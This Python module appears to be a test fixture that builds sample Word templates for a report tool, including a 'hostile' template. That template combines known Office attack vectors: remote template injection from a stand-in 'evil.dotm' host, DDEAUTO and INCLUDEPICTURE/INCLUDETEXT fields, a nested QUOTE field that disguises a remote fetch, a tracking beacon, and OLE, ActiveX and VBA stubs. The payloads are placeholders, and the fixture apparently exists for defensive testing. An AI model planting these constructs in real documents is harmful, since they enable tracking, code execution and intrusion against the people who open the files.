"""Word documents that firms might start reports from, made part by part: each as a program or a person would have made it."""

from io import BytesIO
from zipfile import ZipFile

from docx import Document

_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml"
DOCUMENT, TEMPLATE = f"{_MAIN}.document.main+xml", f"{_MAIN}.template.main+xml"
MACROS = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
_NAMESPACES = " ".join(
    f'xmlns:{prefix}="{uri}"'
    for prefix, uri in {
        "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "r": _RELATIONS,
        "a": f"{_DRAWING}/main",
        "pic": f"{_DRAWING}/picture",
        "wp": f"{_DRAWING}/wordprocessingDrawing",
        "v": "urn:schemas-microsoft-com:vml",
        "o": "urn:schemas-microsoft-com:office:office",
    }.items()
)
#: The kinds of parts that have words, and their roots.
_ROOTS = {"header": "hdr", "footer": "ftr", "styles": "styles", "numbering": "numbering", "settings": "settings"}


def page(width=11906, height=16838, margin=1134):
    """Return what a section says of its paper, in twentieths of a point."""
    margins = " ".join(f'w:{side}="{margin}"' for side in ("top", "right", "bottom", "left"))
    return f'<w:pgSz w:w="{width}" w:h="{height}"/><w:pgMar {margins} w:header="500" w:footer="500" w:gutter="0"/>'


def defaults(font, size=21, more=""):
    """Return the defaults of styles."""
    look = f'<w:rFonts w:ascii="{font}" w:hAnsi="{font}"/><w:sz w:val="{size}"/>{more}'
    return f"<w:docDefaults><w:rPrDefault><w:rPr>{look}</w:rPr></w:rPrDefault></w:docDefaults>"


NORMAL = '<w:style w:type="paragraph" w:default="1" w:styleId="{}"><w:name w:val="Normal"/></w:style>'
STYLES = defaults("Arial", 22) + NORMAL.format("Normal")
MARK = (
    '<w:sdt><w:sdtPr><w:alias w:val="The report"/><w:tag w:val="selfcheck.body"/><w:id w:val="7"/></w:sdtPr>'
    "<w:sdtContent><w:p><w:r><w:t>The report goes here.</w:t></w:r></w:p></w:sdtContent></w:sdt>"
)


def line(words, style="", more=""):
    """Return a paragraph, with other content behind its words."""
    properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f'<w:p>{properties}<w:r><w:t xml:space="preserve">{words}</w:t></w:r>{more}</w:p>'


def style(id, name, more="", kind="paragraph", base="Normal"):
    """Return a style."""
    return (
        f'<w:style w:type="{kind}" w:styleId="{id}"><w:name w:val="{name}"/>'
        f'{f"""<w:basedOn w:val="{base}"/>""" if base else ""}{more}</w:style>'
    )


def coloured(colour, size=28):
    """Return what gives a style a colour and a size."""
    return f'<w:rPr><w:color w:val="{colour}"/><w:sz w:val="{size}"/></w:rPr>'


def section(*references, more="", paper=""):
    """Return the properties of a section with headers and footers."""
    told = "".join(f'<w:{kind}Reference w:type="{of}" r:id="{id}"/>' for kind, of, id in references)
    return f"<w:sectPr>{told}{paper or page()}{more}</w:sectPr>"


def field(instruction, shown):
    """Return the runs of a field, and what it showed last."""
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    told = f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
    return f"{begin}{told}{separate}<w:r><w:t>{shown}</w:t></w:r>{end}"


def package(body, parts=(), relations=(), main=DOCUMENT, of_package=(), more=None):
    """Return the bytes of a document.

    Args:
        body: the markup of its body.
        parts: its parts with words, each with its id, its kind and its markup, and the relations that it has.
        relations: what else it refers to, each as an id, a kind, a target and whether that is elsewhere.
        main: its type.
        of_package: what the package refers to beside it.
        more: other parts, their contents by their names.
    """
    files = {f"word/{name}": content for name, content in (more or {}).items()}
    types = [f'<Override PartName="/word/document.xml" ContentType="{main}"/>']
    referred = list(relations)
    for id, kind, content, *own in parts:
        name = f"{kind}{id}.xml" if kind in ("header", "footer") else f"{kind}.xml"
        root = _ROOTS[kind]
        files[f"word/{name}"] = f"<w:{root} {_NAMESPACES}>{content}</w:{root}>".encode()
        files |= {f"word/_rels/{name}.rels": _relations(own)} if own else {}
        types.append(f'<Override PartName="/word/{name}" ContentType="{_MAIN}.{kind}+xml"/>')
        referred.append((id, kind, name, False))
    files["word/document.xml"] = f"<w:document {_NAMESPACES}><w:body>{body}</w:body></w:document>".encode()
    files["word/_rels/document.xml.rels"] = _relations(referred)
    files["_rels/.rels"] = _relations([("rId1", "officeDocument", "word/document.xml", False), *of_package])
    endings = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    endings |= {"bin": "application/vnd.ms-office.vbaProject", "png": "image/png"}
    defaults = "".join(f'<Default Extension="{ending}" ContentType="{kind}"/>' for ending, kind in endings.items())
    content_types = (
        f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{defaults}{"".join(types)}</Types>'
    )
    file = BytesIO()
    with ZipFile(file, "w") as archive:
        archive.writestr("[Content_Types].xml", content_types)
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def _relations(relations):
    told = "".join(
        f'<Relationship Id="{id}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="{"External" if far else "Internal"}"/>'
        for id, kind, target, far in relations
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{told}</Relationships>'.encode()


def python_docx():
    """Return the document that python-docx starts from."""
    file = BytesIO()
    Document().save(file)
    return file.getvalue()


def plain(styles="", body="<w:p/>", **more):
    """Return a document with a few styles and nothing else."""
    return package(body + section(), [("rId1", "styles", STYLES + styles)], **more)


def pandoc():
    """Return a document such as pandoc has for reference: its styles shown, no lists, a style based on one that is missing."""
    styles = [
        style("Title", "Title", '<w:pPr><w:jc w:val="center"/></w:pPr>'),
        style("Heading1", "heading 1", coloured("0F4761", 40)),
        style("Heading2", "heading 2", coloured("0F4761", 32)),
        style("FirstParagraph", "First Paragraph"),
        style("Hyperlink", "Hyperlink", coloured("4F81BD", 24), kind="character", base=""),
        style("Table", "Table", kind="table", base="TableNormal"),
    ]
    body = line("Title", "Title") + line("Heading 1", "Heading1") + line("Body text.", "FirstParagraph")
    return plain("".join(styles), body)


def german():
    """Return a template of a German Word: ids in German, names in English as Word writes them, and a list of its own."""
    styles = (
        defaults("Georgia", more='<w:lang w:val="de-DE"/>')
        + NORMAL.format("Standard")
        + '<w:style w:type="table" w:default="1" w:styleId="NormaleTabelle"><w:name w:val="Normal Table"/></w:style>'
        + style("Titel", "Title", coloured("7A1F3D", 56), base="Standard")
        + style("berschrift1", "heading 1", '<w:pPr><w:outlineLvl w:val="0"/></w:pPr>' + coloured("7A1F3D", 36), base="Standard")
        + style("berschrift2", "heading 2", '<w:pPr><w:outlineLvl w:val="1"/></w:pPr>' + coloured("7A1F3D"), base="Standard")
        + style("berschrift3", "heading 3", '<w:pPr><w:outlineLvl w:val="2"/></w:pPr>', base="Standard")
        + style("Kopfzeile", "header", base="Standard")
        + style("Fuzeile", "footer", base="Standard")
        + style("Aufzhlungszeichen", "List Bullet", '<w:pPr><w:numPr><w:numId w:val="4"/></w:numPr></w:pPr>', base="Standard")
        # An id that is ours, for something else.
        + style("Title", "Mein Titel", base="Standard")
    )
    level = '<w:start w:val="1"/><w:numFmt w:val="bullet"/><w:pStyle w:val="Aufzhlungszeichen"/><w:lvlText w:val="–"/>'
    numbering = (
        f'<w:abstractNum w:abstractNumId="3"><w:multiLevelType w:val="singleLevel"/><w:lvl w:ilvl="0">{level}'
        '<w:lvlJc w:val="left"/></w:lvl></w:abstractNum><w:num w:numId="4"><w:abstractNumId w:val="3"/></w:num>'
    )
    parts = [("rId1", "styles", styles), ("rId2", "numbering", numbering)]
    parts += [
        ("rId3", "header", line("Müller &amp; Söhne", "Kopfzeile")),
        ("rId4", "footer", line("Seite ", "Fuzeile", field(" PAGE ", "1"))),
    ]
    body = "<w:p/>" + section(("header", "default", "rId3"), ("footer", "default", "rId4"))
    return package(body, parts, main=TEMPLATE)


def with_cover():
    """Return a document with a cover in a section of its own, the place for the report, and terms behind it on other paper."""
    styles = style("Heading1", "heading 1", '<w:pPr><w:outlineLvl w:val="0"/></w:pPr>' + coloured("1F4E79", 36))
    of_cover = section(more='<w:vAlign w:val="center"/>')
    own = section(("header", "default", "rId2"), ("footer", "default", "rId3"), more='<w:pgNumType w:start="1"/><w:titlePg/>')
    body = [
        line("Security at a glance"),
        f"<w:p><w:pPr>{of_cover}</w:pPr></w:p>",
        MARK,
        line("We thank you for your trust."),
        f"<w:p><w:pPr>{own}</w:pPr></w:p>",
        line("Our terms", "Heading1"),
        line("We are liable for what we say."),
        section(paper=page(16838, 11906)),
    ]
    parts = [
        ("rId1", "styles", STYLES + styles),
        ("rId2", "header", line("Field &amp; Daughters")),
        ("rId3", "footer", line("1 High Street")),
    ]
    return package("".join(body), parts)


def hostile():
    """Return a template with whatever runs, fetches or asks."""
    blip = '<pic:blipFill><a:blip r:link="rIdFar"/></pic:blipFill><pic:spPr/>'
    named = '<pic:nvPicPr><pic:cNvPr id="0" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
    graphic = f'<a:graphicData uri="{_DRAWING}/picture"><pic:pic>{named}{blip}</pic:pic></a:graphicData>'
    inline = f'<wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="x"/><a:graphic>{graphic}</a:graphic>'
    picture = f"<w:r><w:drawing><wp:inline>{inline}</wp:inline></w:drawing></w:r>"
    old = '<w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata src="https://far.example/old.png"/></v:shape></w:pict></w:r>'
    ole = '<w:r><w:object><v:shape/><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r>'
    fields = [
        field(' INCLUDEPICTURE "https://far.example/x.png" \\d ', "shown one"),
        field(' INCLUDETEXT "\\\\\\\\far\\\\x.docx" ', "shown two"),
        field(" DDEAUTO excel x y ", "shown three"),
        field(" LINK Excel.Sheet x.xlsx ", "shown four"),
        # What a field is may be worked out by another one.
        field(
            "</w:instrText></w:r>"
            + field(' QUOTE "INCLUDEPICTURE" ', "INCLUDEPICTURE")
            + '<w:r><w:instrText> "https://far.example/y" ',
            "five",
        ),
        '<w:fldSimple w:instr=" IMPORT x "><w:r><w:t>shown six</w:t></w:r></w:fldSimple>',
        field(" NUMPAGES ", "1"),
    ]
    body = [
        line("Kept words", more="".join(fields)),
        f"<w:p>{picture}{old}{ole}</w:p>",
        '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>our page</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdFile"><w:r><w:t>our drive</w:t></w:r></w:hyperlink></w:p>',
        '<w:p><w:r><w:control r:id="rIdActive" w:name="Button"/></w:r></w:p>',
        '<w:altChunk r:id="rIdChunk"/>',
        MARK,
    ]
    settings = (
        '<w:attachedTemplate r:id="rId1"/><w:linkStyles/><w:trackRevisions/>'
        '<w:documentProtection w:edit="forms" w:enforcement="1"/>'
        '<w:updateFields w:val="true"/>'
    )
    attached = ("rId1", "attachedTemplate", "https://far.example/evil.dotm", True)
    relations = [
        ("rIdFar", "image", "https://far.example/beacon.png", True),
        ("rIdOle", "oleObject", "embeddings/oleObject1.bin", False),
        ("rIdActive", "control", "activeX/activeX1.xml", False),
        ("rIdChunk", "aFChunk", "chunk.html", False),
        ("rIdLink", "hyperlink", "https://field.example/", True),
        ("rIdFile", "hyperlink", "file://server/share", True),
        ("rIdVba", "vbaProject", "vbaProject.bin", False),
        ("rIdData", "customXml", "../customXml/item1.xml", False),
        ("rIdFrame", "frame", "https://far.example/frame.html", True),
    ]
    more = dict.fromkeys(("embeddings/oleObject1.bin", "chunk.html", "vbaProject.bin"), b"x")
    more |= {"activeX/activeX1.xml": b"<x/>", "../customXml/item1.xml": b"<x/>"}
    parts = [("rId1", "styles", STYLES), ("rId2", "settings", settings, attached)]
    return package("".join(body) + section(), parts, relations, MACROS, [("rId9", "extensibility", "customUI.xml", False)], more)


#: Templates by where they come from.
TEMPLATES = {
    "python-docx": python_docx(),
    "pandoc": pandoc(),
    "German Word": german(),
    "cover and terms": with_cover(),
    "hostile": hostile(),
    "nothing but text": package(line("Hello")),
}
